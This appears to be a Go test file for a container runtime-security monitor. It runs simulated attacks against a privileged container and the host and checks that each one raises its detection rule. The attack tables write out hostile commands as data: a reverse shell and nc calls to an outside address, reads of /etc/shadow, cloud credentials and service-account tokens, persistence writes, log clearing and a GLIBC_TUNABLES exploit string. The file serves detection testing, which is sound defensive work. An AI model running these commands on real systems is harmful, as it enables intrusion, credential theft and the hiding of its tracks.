package rules_test

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// tools are the names under which act is in the image of the attacked
// containers, to be run instead of the real ones.
var tools = []string{"act", "sort", "nmap", "nsenter", "xmrig", "apt-get", "setcap", "systemctl", "pkexec", "useradd", "find", "nginx", ".hidden"}

// buildAct builds the program that does bad acts.
func buildAct(t *testing.T, path string) {
	t.Helper()
	build := exec.Command("go", "build", "-o", path, "./testdata/act")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
}

// attackImage builds act, and an image of which it is a part.
func attackImage(t *testing.T) (image string) {
	t.Helper()
	needDocker(t)
	dir := t.TempDir()
	act := filepath.Join(dir, "tools", "act")
	buildAct(t, act)
	for _, name := range tools[1:] {
		if err := os.Link(act, filepath.Join(dir, "tools", name)); err != nil {
			t.Fatal(err)
		}
	}
	for name, text := range map[string]string{
		"secret":     "of no use\n",
		"Dockerfile": dockerfile,
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(strings.ReplaceAll(text, "IMAGE", testImage)), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	image = fmt.Sprintf("rollcage/acted:%d", os.Getpid())
	docker(t, "build", "-q", "-t", image, dir)
	t.Cleanup(func() { docker(t, "rmi", "-f", image) })
	return image
}

const dockerfile = `FROM IMAGE
COPY tools/ /opt/tools/
COPY secret /var/run/secrets/kubernetes.io/serviceaccount/token
COPY secret /root/.aws/credentials
COPY secret /root/.bash_history
COPY secret /var/log/auth.log
COPY secret /usr/bin/removable
COPY secret /etc/ld.so.preload
COPY secret /root/.ssh/authorized_keys
COPY secret /etc/cron.d/job
COPY secret /etc/init.d/job
ENV PATH=/opt/tools:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
`

// attacks are what is done in a running container, and the rule that must
// tell of it, or the rules where it is more than one thing. A ~ in an argument stands for a blank.
var attacks = []struct{ rules, command string }{
	{"Reverse shell", "act stdin 203.0.113.9:443"},
	{"Crypto miner", "xmrig"},
	{"Program run from memory", "act memfd"},
	{"Exploit of a set-user-id program", "pkexec"},
	{"Library preloaded from a temporary folder", "env LD_PRELOAD=/tmp/x.so act"},
	{"Hidden program run", "/opt/tools/.hidden"},
	{"Encoded command run, Shell run in a container", "sh -c true|base64~-d|sh"},
	{"Program not from the image run in a container", "act drop /srv/dropped"},
	{"Program not from the image run in a container", "act drop /data/dropped"},
	{"Escape tool run in a container", "nsenter"},
	{"Reconnaissance tool run in a container", "nmap"},
	{"Search for keys or passwords", "find / -name id_rsa"},
	{"Package manager run in a container", "apt-get install x"},
	{"Shell started by a server", "nginx shell"},
	{"Shell run in a container", "sh"},
	{"Account created or changed", "useradd x"},
	{"Capability given to a program", "setcap cap_setuid+ep x"},
	{"Protection switched off", "systemctl stop auditd"},
	{"Connection to the cloud metadata service", "act connect 169.254.169.254:80"},
	{"Connection to the container runtime", "act dial /docker.sock"},
	{"Program that needs no network uses it", "sort connect 203.0.113.9:444"},
	{"Unexpected outbound connection from a container", "nc 203.0.113.9 446"},
	{"Connection to a port of malware", "act connect 203.0.113.9:3333"},
	{"Raw packet socket opened in a container", "act packet"},
	{"Escape through a file of the kernel", "act write /proc/sys/kernel/core_pattern"},
	{"Disk or memory device opened in a container", "act disk /tmp/disk"},
	{"Mount in a container", "act mount /srv"},
	{"Namespace entered in a container", "act setns"},
	{"Process traced or changed", "act ptrace"},
	{"Asynchronous I/O ring opened in a container", "act ring"},
	{"Kernel program loaded", "act bpf"},
	{"Sensitive file read", "cat /etc/shadow"},
	{"Sensitive file read", "cat /proc/1/root/etc/shadow"},
	{"Link to a sensitive file made", "ln -s /etc/shadow /tmp/link"},
	{"Link to a sensitive file made", "ln /etc/shadow /etc/link"},
	{"Service account token read by a tool", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"},
	{"Credentials read by a tool", "cat /root/.aws/credentials"},
	{"Environment of another process read", "cat /proc/1/environ"},
	{"Library preload changed", "act write /etc/ld.so.preload"},
	{"Key for remote login added", "act write /root/.ssh/authorized_keys"},
	{"Scheduled task changed", "act write /etc/cron.d/job"},
	{"Service definition changed", "act write /etc/init.d/job"},
	{"Shell start file changed", "cp /etc/passwd /root/.bashrc"},
	{"Write below a folder of programs", "cp /etc/passwd /usr/bin/tool"},
	{"Program replaced or removed", "rm /usr/bin/removable"},
	{"Write below /etc in a container", "cp /etc/passwd /etc/motd"},
	{"Log cleared", "cp /etc/passwd /var/log/auth.log"},
	{"Log cleared", "rm /var/log/auth.log"},
	{"Shell history cleared", "rm /root/.bash_history"},
	{"Set-user-id bit set", "chmod u+s /home/app"},
	{"Set-user-id bit set", "act suid /tmp/suid"},
}

// TestEachAttackOnAContainerRaisesItsRule attacks a container that has all
// privileges, so that what would else be forbidden succeeds.
func TestEachAttackOnAContainerRaisesItsRule(t *testing.T) {
	prefix := fmt.Sprintf("acted-%d", os.Getpid())
	image := attackImage(t)
	w := watch(t, prefix)
	runContainer(t, prefix, "--privileged", "--cap-add", "ALL", "--tmpfs", "/data:exec", "-v", strings.TrimPrefix(dockerHost, "unix://")+":/docker.sock",
		image, "act", "serve", "0.0.0.0:446")
	w.expect(t, "the container is started", prefix, "Privileged container started, Container with a sensitive mount started")
	for _, ip := range []string{"203.0.113.9/32", "169.254.169.254/32"} {
		docker(t, "exec", prefix, "ip", "addr", "add", ip, "dev", "lo")
	}
	runContainer(t, prefix+"-mounted", "-v", "/etc:/host:ro", image, "act", "wait")
	w.expect(t, "a container sees /etc", prefix+"-mounted", "Container with a sensitive mount started")
	for _, a := range attacks {
		args := strings.Fields(a.command)
		for i := range args {
			args[i] = strings.ReplaceAll(args[i], "~", " ")
		}
		// Some attacks fail, as they are done with files that are no programs.
		out, _ := exec.Command("docker", append([]string{"-H", dockerHost, "exec", prefix}, args...)...).CombinedOutput()
		if !w.expect(t, a.command, prefix, a.rules) {
			t.Logf("%s", out)
		}
	}
}

// expect wants the alerts of those rules, in their order, each with all that is
// known of the container.
func (w *watcher) expect(t *testing.T, what, container, rules string) bool {
	t.Helper()
	got := w.await(t, 1+strings.Count(rules, ","))
	var names []string
	known := true
	for _, f := range got {
		names = append(names, f.rule)
		known = known && f.container == container && (container == "" || f.known)
	}
	if known && strings.Join(names, ", ") == rules {
		return true
	}
	t.Errorf("%s: %d alerts, want %s", what, len(got), rules)
	for _, f := range got {
		t.Logf("%s: %s", f.rule, f.text)
	}
	return false
}

// TestEachAttackOnTheHostRaisesItsRule does on the host what harms nothing.
func TestEachAttackOnTheHostRaisesItsRule(t *testing.T) {
	w := watch(t, "none")
	dir := t.TempDir()
	act := filepath.Join(dir, "act")
	buildAct(t, act)
	w.settle(t)
	w.take()
	for _, a := range []struct{ rule, script string }{
		{"Interactive shell without a terminal", "true | dash -i"},
		{"Exploit of a set-user-id program", "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A $ACT; true"},
		{"Library preloaded from a temporary folder", "LD_PRELOAD=/tmp/none.so $ACT"},
		{"Program run from memory", "$ACT memfd"},
		{"Program run from a shared memory folder", "f=$(mktemp -p /dev/shm) && cp $ACT $f && chmod 700 $f; $f; rm $f"},
		{"Hidden program run", "ln $ACT $DIR/.act && $DIR/.act"},
		{"Encoded command run", "echo dHJ1ZQo= | base64 -d | sh"},
		{"Search for keys or passwords", "find $DIR -name id_rsa"},
		{"Account created or changed", "useradd --help"},
		{"Protection switched off", "ln $ACT $DIR/setenforce && $DIR/setenforce 0"},
		{"Kernel program loaded", "$ACT bpf"},
		{"Process hidden by a mount", "$ACT hide"},
		{"Process traced or changed", "$ACT ptrace"},
		{"Handler for page faults opened by a user", "$ACT faults"},
		{"Rollcage stopped or killed", "ln $ACT $DIR/rollcage; $DIR/rollcage wait & until grep -q rollcage /proc/$!/comm; do :; done; kill -KILL $!; wait"},
		{"Rollcage stopped or killed", "$DIR/rollcage wait & until grep -q rollcage /proc/$!/comm; do :; done; kill -STOP $!; kill -CONT $!; kill -HUP $!; wait"},
		{"Sensitive file read", "cp /etc/shadow /dev/null"},
		{"Link to a sensitive file made", "ln -s /etc/shadow $DIR/link"},
		{"Key for remote login added", "mkdir $DIR/.ssh; touch $DIR/.ssh/authorized_keys"},
		{"Shell start file changed", "touch $DIR/.bashrc"},
		{"Write below /etc", "$ACT write /etc/passwd"},
		{"Credentials read by a tool", "mkdir $DIR/.aws; ln $ACT $DIR/.aws/credentials; cat $DIR/.aws/credentials"},
		{"Shell history cleared", "ln -s /dev/null $DIR/.bash_history"},
		{"Set-user-id bit set", "$ACT suid $DIR/suid"},
	} {
		cmd := exec.Command("sh", "-c", a.script)
		cmd.Env = append(os.Environ(), "ACT="+act, "DIR="+dir)
		out, _ := cmd.CombinedOutput()
		if !w.expect(t, a.script, "", a.rule) {
			t.Logf("%s", out)
		}
	}
}
